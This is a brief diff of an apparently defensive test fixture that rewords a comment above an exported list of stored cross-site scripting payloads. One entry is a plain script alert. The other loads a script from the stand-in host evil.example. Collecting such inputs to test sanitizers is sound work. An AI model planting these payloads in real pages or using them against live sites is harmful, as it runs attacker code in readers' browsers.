@@ -1,4 +1,4 @@
-/** Scripts that people have hidden in texts to run them in a reader's browser. */
+/** Each of these hides a script in a text, in a way that people have used to run it in a reader's browser. */
 export const storedAttacks = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
